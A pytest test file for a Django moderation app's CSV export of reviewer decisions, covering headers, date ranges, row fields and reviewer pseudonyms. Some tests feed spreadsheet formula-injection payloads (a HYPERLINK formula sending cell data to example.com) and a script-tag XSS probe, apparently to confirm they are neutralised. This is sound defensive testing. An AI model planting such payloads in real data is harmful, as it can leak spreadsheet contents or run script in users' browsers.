"""``decisions.csv``: who may have it, what stands in it, and that no spreadsheet runs it."""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from django_imgmod.admin.review import export
from django_imgmod.choices import Lane, Outcome, RiskLevel, Status
from django_imgmod.models import Decision
from tests.backdated import ago, make_record

PAGE = "/admin/django_imgmod/moderationrecord/review/decisions.csv"
REVIEW = "review_moderationrecord"

pytestmark = pytest.mark.django_db


@pytest.fixture
def reviewer(client_of) -> Client:
    return client_of(REVIEW)


@pytest.fixture
def read(reviewer) -> Callable[..., list[dict[str, str]]]:
    """Return a function that gets the table and reads it."""

    def get(**parameters: str) -> list[dict[str, str]]:
        response = reviewer.get(PAGE, parameters)
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))

    return get


def make_decision(**columns: Any) -> Decision:
    record = columns.pop("record", None) or make_record(status=Status.BLOCKED, **columns.pop("of", {}))
    return Decision.objects.create(record=record, **{"outcome": Outcome.BLOCK, **columns})


class TestAccess:
    def test_is_a_file_that_nobody_keeps(self, reviewer):
        response = reviewer.get(PAGE, {"since": "2026-01-01", "until": "2026-01-31"})
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="decisions-2026-01-01-2026-01-31.csv"'
        assert "no-store" in response["Cache-Control"]
        assert response["X-Content-Type-Options"] == "nosniff"


class TestDays:
    def test_are_the_last_thirty_unless_others_are_named(self, read):
        for days in (0, 29, 31):
            make_decision(decided_at=ago(days=days), comment=f"{days} days ago")
        assert [row["comment"] for row in read()] == ["29 days ago", "0 days ago"]
        long_ago = str(timezone.localdate() - timedelta(days=40))
        assert next(row["comment"] for row in read(since=long_ago)) == "31 days ago"

    def test_are_whole_days_of_the_site(self, read, settings):
        settings.TIME_ZONE = "Pacific/Auckland"
        make_decision(decided_at=datetime(2026, 3, 9, 11, 0, tzinfo=UTC), comment="the tenth begins")
        make_decision(decided_at=datetime(2026, 3, 10, 10, 59, 59, tzinfo=UTC), comment="it ends")
        make_decision(decided_at=datetime(2026, 3, 10, 11, 0, tzinfo=UTC), comment="the eleventh")
        rows = read(since="2026-03-10", until="2026-03-10")
        assert [row["comment"] for row in rows] == ["the tenth begins", "it ends"]
        assert rows[0]["decided_at"] == "2026-03-10T00:00:00+13:00"

    @pytest.mark.parametrize(
        "parameters",
        [
            {"since": "yesterday"},
            {"until": "2026-13-01"},
            {"since": "0001-01-01"},
            {"until": "9999-12-31"},
            {"since": "2026-02-01", "until": "2026-01-01"},
            {"people": "everybody"},
        ],
    )
    def test_that_make_no_sense_are_refused_in_words(self, reviewer, parameters):
        response = reviewer.get(PAGE, parameters)
        assert response.status_code == 400
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert response.content

    def test_that_are_wrong_run_nothing(self, reviewer):
        response = reviewer.get(PAGE, {"people": "<script>alert(1)</script>"})
        assert response["X-Content-Type-Options"] == "nosniff"


class TestRows:
    def test_tell_all_about_a_decision(self, read):
        record = make_record(
            status=Status.BLOCKED,
            object_id="7",
            top_label="nudity",
            top_confidence="97.50",
            risk_level=RiskLevel.HIGH,
            provider="alibaba",
        )
        batch = uuid.uuid4()
        decision = make_decision(
            record=record,
            decided_by=User.objects.create_user("ada"),
            reason_code="sexual",
            comment="Zwei Zeilen,\nmit „Umlauten“",
            version=3,
            status_before=Status.IN_REVIEW,
            lane_before=Lane.ESCALATED,
            seen_policy="strict",
            seen_risk_level=RiskLevel.LOW,
            seen_label="calm",
            seen_confidence="3.10",
            seen_verdict_at=datetime(2026, 3, 9, 11, 0, tzinfo=UTC),
            batch=batch,
        )
        (row,) = read()
        assert row == {
            "decision": str(decision.pk),
            "decided_at": timezone.localtime(decision.decided_at).isoformat(timespec="seconds"),
            "decided_by": "ada",
            "outcome": "block",
            "reason_code": "sexual",
            "comment": "Zwei Zeilen,\nmit „Umlauten“",
            "label": "nudity",
            "confidence": "97.50",
            "risk_level": "high",
            "provider": "alibaba",
            "policy": "default",
            "app": "hostapp",
            "model": "photo",
            "object_id": "7",
            "field": "image",
            "file_name": record.file_name,
            "record": str(record.public_id),
            "version": "3",
            "status_before": "in_review",
            "queue_before": "escalated",
            "seen_policy": "strict",
            "seen_risk_level": "low",
            "seen_label": "calm",
            "seen_confidence": "3.10",
            "seen_verdict_at": "2026-03-09T06:00:00-05:00",
            "batch": str(batch),
            "undone_by": "",
            "undoes": "",
        }

    def test_name_what_was_taken_back_and_by_what(self, read):
        decision = make_decision()
        undo = make_decision(record=decision.record, outcome=Outcome.REVIEW, undoes=decision)
        first, second = read()
        assert (first["undone_by"], first["undoes"]) == (str(undo.pk), "")
        assert (second["undone_by"], second["undoes"]) == ("", str(decision.pk))

    @pytest.mark.parametrize("beginning", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
    def test_are_text_to_a_spreadsheet(self, read, beginning):
        formula = f'{beginning}HYPERLINK("https://example.com/?"&A1)'
        decision = make_decision(comment=formula, of={"object_id": formula, "top_label": formula})
        decision.record.file_name = formula
        decision.record.save()
        (row,) = read()
        assert {row[name] for name in ("comment", "object_id", "label", "file_name")} == {f"'{formula}"}
        assert not [cell for cell in row.values() if cell.startswith(export.FORMULA_BEGINNINGS)]

    def test_begin_with_what_tells_excel_the_encoding(self, reviewer):
        assert reviewer.get(PAGE).getvalue().startswith(b"\xef\xbb\xbfdecision,decided_at,")

    def test_come_in_portions_and_each_once(self, read, monkeypatch):
        monkeypatch.setattr(export, "PORTION", 2)
        now = timezone.now()
        for number in range(7):
            make_decision(decided_at=now - timedelta(seconds=number // 3), comment=str(number))
        assert sorted(row["comment"] for row in read()) == list("0123456")
        with CaptureQueriesContext(connection) as statements:
            read()
        assert len([one for one in statements if "imgmod_decision" in one["sql"]]) == 5

    def test_hide_people_behind_pseudonyms_that_stay(self, read, settings):
        ada, bob = User.objects.create_user("ada"), User.objects.create_user("bob")
        for person in (ada, bob, ada, None):
            make_decision(decided_by=person)
        first, second, third, fourth = [row["decided_by"] for row in read(people="hidden")]
        assert re.fullmatch("person-[0-9a-f]{12}", first)
        assert first == third != second
        assert fourth == ""
        assert [row["decided_by"] for row in read(people="hidden")] == [first, second, third, fourth]
        assert [row["decided_by"] for row in read(people="named")] == ["ada", "bob", "ada", ""]
